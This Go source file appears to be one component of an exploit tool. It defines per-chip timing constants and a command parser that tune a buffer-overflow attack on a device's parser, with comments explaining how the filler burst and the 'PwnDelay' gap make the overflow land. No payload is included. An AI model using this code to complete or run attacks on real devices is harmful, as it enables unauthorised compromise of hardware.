package exploit

import (
	"strconv"
	"strings"
	"time"
)

// ChipConstants are the silicon-revision timing parameters of the overwrite
// sequence.
type ChipConstants struct {
	// FillerMultiplier scales the printable filler burst. The device drops
	// bytes under load, so the burst is oversized until its line buffer is
	// guaranteed full regardless of drops.
	FillerMultiplier uint32

	// PostProcess is how long the device needs to chew through (and spew
	// errors about) one overwrite burst before the channel is usable again.
	PostProcess time.Duration

	// PwnDelay is the critical gap between the filler and the overflow
	// bytes; it makes the overflow land in the same parser invocation as
	// the filler. Held with microsecond precision.
	PwnDelay time.Duration
}

// Named presets for the two known silicon revisions.
var (
	SalinaConsts = ChipConstants{
		FillerMultiplier: 3,
		PostProcess:      200 * time.Millisecond,
		PwnDelay:         790 * time.Microsecond,
	}
	Salina2Consts = ChipConstants{
		FillerMultiplier: 6,
		PostProcess:      800 * time.Millisecond,
		PwnDelay:         900 * time.Microsecond,
	}
)

// ParseChipConstsCommand parses "picochipconst <name>" for a preset, or
// "picochipconst <hexmult> <hexms> <hexus>" for explicit overrides.
func ParseChipConstsCommand(cmd string) (ChipConstants, bool) {
	parts := strings.Split(cmd, " ")
	switch len(parts) {
	case 2:
		switch parts[1] {
		case "salina":
			return SalinaConsts, true
		case "salina2":
			return Salina2Consts, true
		}
		return ChipConstants{}, false
	case 4:
		mult, err1 := strconv.ParseUint(parts[1], 16, 8)
		ms, err2 := strconv.ParseUint(parts[2], 16, 16)
		us, err3 := strconv.ParseUint(parts[3], 16, 16)
		if err1 != nil || err2 != nil || err3 != nil {
			return ChipConstants{}, false
		}
		return ChipConstants{
			FillerMultiplier: uint32(mult),
			PostProcess:      time.Duration(ms) * time.Millisecond,
			PwnDelay:         time.Duration(us) * time.Microsecond,
		}, true
	}
	return ChipConstants{}, false
}
